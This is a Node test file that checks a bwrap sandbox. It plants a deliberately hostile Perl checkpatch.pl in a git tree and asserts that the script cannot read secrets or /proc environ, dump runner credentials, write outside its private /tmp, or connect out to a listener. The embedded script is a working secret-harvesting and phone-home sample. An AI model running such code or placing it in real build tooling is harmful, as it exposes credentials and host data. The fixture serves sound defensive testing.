import assert from "node:assert/strict";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { git } from "../../src/lib/git.ts";
import { silentLogger } from "../../src/lib/logger.ts";
import { createSandbox, DEFAULT_SANDBOX_LIMITS, resolveSandboxIdentity } from "../../src/lib/sandbox.ts";
import { applySeries } from "../../src/runner/apply/apply-series.ts";
import { onePatchApplyJob } from "../helpers/one-patch-apply-job.ts";

/**
 * A hostile tree: its scripts/checkpatch.pl tries to read patchbench's data
 * dir and the runner's secrets, write outside the worktree, and phone home.
 * It reports what it got as checkpatch warnings, so the findings show what
 * the script could see; the host side (files, the listening port) is
 * checked as well.
 */
describe("checkpatch from a hostile tree runs in the sandbox (real bwrap, real git)", { skip: process.geteuid?.() !== 0 ? "needs root" : false }, () => {
  let dir: string;
  let dataDir: string;
  let workDir: string;
  let up: string;
  let server: Server;
  let port: number;
  let connections = 0;
  const saved = { ...process.env };

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), "pb-hostile-"));
    chmodSync(dir, 0o711);
    dataDir = join(dir, "data");
    workDir = join(dataDir, "work");
    mkdirSync(workDir, { recursive: true });
    writeFileSync(join(dataDir, "secret.txt"), "data-dir-secret\n", { mode: 0o644 });
    server = createServer((s) => {
      connections++;
      s.end();
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    port = (server.address() as { port: number }).port;
    Object.assign(process.env, { PATCHBENCH_SMTP_PASSWORD: "smtp-secret", PATCHBENCH_GITHUB_WEBHOOK_SECRET: "hook-secret" });

    up = join(dir, "up");
    mkdirSync(join(up, "scripts"), { recursive: true });
    writeFileSync(
      join(up, "scripts", "checkpatch.pl"),
      `use strict; use IO::Socket::INET;
my @out;
sub report { my ($code, $msg) = @_; $msg = "" unless defined $msg; $msg =~ s/\\n/ /g; push @out, "WARNING:$code: $msg"; }
for my $f ("${dataDir}/secret.txt", "/proc/1/environ") {
  if (open(my $h, "<", $f)) { local $/; my $c = <$h>; report("READ", "$f: $c") } else { report("DENIED_READ", "$f: $!") }
}
for my $k (sort keys %ENV) { report("ENV", "$k=$ENV{$k}") }
if (open(my $h, ">", "/tmp/pwned")) { print $h "x"; close $h; report("WROTE_TMP", "private /tmp") } else { report("DENIED_WRITE", "/tmp/pwned: $!") }
if (open(my $h, ">", "scripts/pwned")) { report("WROTE_TREE", "") } else { report("DENIED_WRITE", "tree: $!") }
my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}, Timeout => 3);
if ($s) { print $s "leak\\n"; report("CONNECTED", "") } else { report("DENIED_NET", "$@") }
report("UID", "$<");
local $/; my $mail = <STDIN>;
print "$_\\n" for @out;
print "total: 0 errors, " . scalar(@out) . " warnings, 1 lines checked\\n";
`,
    );
    writeFileSync(join(up, "a.c"), "int a;\n");
    await git(["init", "-q", "-b", "master", up]);
    await git(["add", "-A"], { repo: up });
    await git(["commit", "-q", "-m", "base"], { repo: up });
  });
  after(() => {
    for (const k of Object.keys(process.env)) if (!(k in saved)) delete process.env[k];
    server.close();
    rmSync(dir, { recursive: true, force: true });
    rmSync("/tmp/pwned", { force: true });
  });

  test("it sees no data dir, no secret, no network, cannot write outside its private /tmp, and is not root", async () => {
    rmSync("/tmp/pwned", { force: true });
    const work = join(dir, "p");
    const job = await onePatchApplyJob(up, work, "flow-hostile");
    const sandbox = createSandbox({ mode: "bwrap", user: "patchbench-sandbox", limits: DEFAULT_SANDBOX_LIMITS, hide: [dataDir, workDir] });
    const r = await applySeries(job, { git, log: silentLogger(), workDir, runner: "t", sandbox, fetchIntervalMs: 0 });
    assert.equal(r.status, "pass", r.summary);
    const check = r.data.checks?.[0];
    assert.equal(check?.id, "checkpatch");
    const seen = new Map<string, string[]>();
    for (const f of check?.findings ?? []) seen.set(f.code ?? "", [...(seen.get(f.code ?? "") ?? []), f.message]);
    const all = JSON.stringify(check?.findings);

    // Its own pid namespace's init (bwrap) is all it can see in /proc; bwrap got PATH only.
    assert.deepEqual(seen.get("READ"), ["/proc/1/environ: PATH=/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin\u0000"], all);
    assert.match(seen.get("DENIED_READ")?.join("\n") ?? "", /secret\.txt: No such file or directory/);
    assert.equal(/smtp-secret|hook-secret|data-dir-secret/.test(all), false, "no secret reached the script");
    const envKeys = (seen.get("ENV") ?? []).map((m) => m.slice(0, m.indexOf("=")));
    assert.deepEqual(envKeys.filter((k) => k.startsWith("PATCHBENCH")), []);
    assert.ok(envKeys.includes("PATH"));
    assert.deepEqual(seen.get("WROTE_TMP"), ["private /tmp"], "its /tmp is its own tmpfs");
    assert.equal(existsSync("/tmp/pwned"), false, "the host's /tmp is untouched");
    assert.match(seen.get("DENIED_WRITE")?.join("\n") ?? "", /tree: Read-only file system/);
    assert.equal(existsSync(join(workDir, "worktrees")) && seen.has("WROTE_TREE"), false);
    assert.equal(seen.has("CONNECTED"), false);
    assert.ok(seen.has("DENIED_NET"));
    assert.equal(connections, 0);
    assert.deepEqual(seen.get("UID"), [String(resolveSandboxIdentity("patchbench-sandbox").uid)]);
    assert.notDeepEqual(seen.get("UID"), ["0"]);
    // The series still applied on top (git am as the runner, after the check).
    assert.equal(r.data.applied, 1);
  });
});
